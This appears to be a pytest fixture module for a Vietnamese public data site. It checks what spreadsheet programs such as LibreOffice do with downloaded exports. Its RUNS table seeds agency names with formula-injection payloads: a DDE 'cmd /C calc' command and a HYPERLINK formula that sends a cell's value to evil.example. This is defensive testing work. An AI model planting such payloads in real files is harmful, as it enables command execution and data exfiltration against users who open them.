"""What programs that no one here wrote make of the files that the site gives out."""

import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest

from tests import publications, serving
from tests.publications import FIRST, SECOND

HOME = "https://so-lieu.example.vn"  # where the public site says that it is

# Names that a spreadsheet would run. The tables of a release say what its sources say: the plain file keeps them.
RUNS = {
    "so-tt-tt": "=cmd|' /C calc'!A0",
    "ubnd-tinh": '=HYPERLINK("https://evil.example/?"&B2,"Ủy ban")',
    "vp-doan-dbqh-hdnd-ubnd": "@SUM(1+9)*cmd|' /C calc'!A0",
}


@pytest.fixture(scope="session")
def public(tmp_path_factory: pytest.TempPathFactory) -> Iterator[serving.Site]:
    """A site that knows its own address and has two releases, the earlier withdrawn; the later has names that run."""
    root = publications.first(tmp_path_factory.mktemp("public"))
    tables = publications.second_tables()
    tables = {**tables, "agencies": [{**row, "name_vi": named(row)} for row in tables["agencies"]]}
    publications.publish(root, SECOND, tables)
    publications.withdraw(root, FIRST, "Thử thu hồi: sai nguồn ở chỉ tiêu T01.")
    with serving.running({"KH213_DATA": str(root), "KH213_URL": HOME}) as started:
        yield started


def named(agency: dict[str, str]) -> str:
    return RUNS.get(agency["agency_code"], agency["name_vi"])


@pytest.fixture(scope="session")
def public_client(public: serving.Site) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=public.url, timeout=30) as client:
        yield client


@pytest.fixture
def save(client: httpx.Client, tmp_path: Path) -> Callable[..., Path]:
    """`save("/data/latest/targets.csv")` downloads as a browser does, under the name that the answer gives."""

    def save(address: str, of: httpx.Client = client) -> Path:
        answer = of.get(address)
        assert answer.status_code == 200, f"{address}: {answer.text[:300]}"
        named = re.search(r'filename="([^"]+)"', answer.headers["content-disposition"])
        assert named
        path = tmp_path / named[1]
        path.write_bytes(answer.content)
        return path

    return save


@pytest.fixture(scope="session")
def office(tmp_path_factory: pytest.TempPathFactory) -> Callable[..., Path]:
    """`office(path, "xlsx", "CSV:44,34,76")` lets LibreOffice open a file and save it as another kind."""
    program, profile = shutil.which("soffice"), tmp_path_factory.mktemp("office")
    if program is None:
        pytest.skip("NO LIBREOFFICE FOUND: no file was opened in an office program")

    def office(path: Path, ending: str, reading: str = "") -> Path:
        into = path.parent / "opened"
        command = [program, f"-env:UserInstallation={profile.as_uri()}", "--headless"]
        command += [f"--infilter={reading}"] if reading else []
        command += ["--convert-to", ending, "--outdir", str(into), str(path)]
        done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
        written = into / f"{path.stem}.{ending}"
        assert written.exists(), done.stdout + done.stderr
        return written

    return office
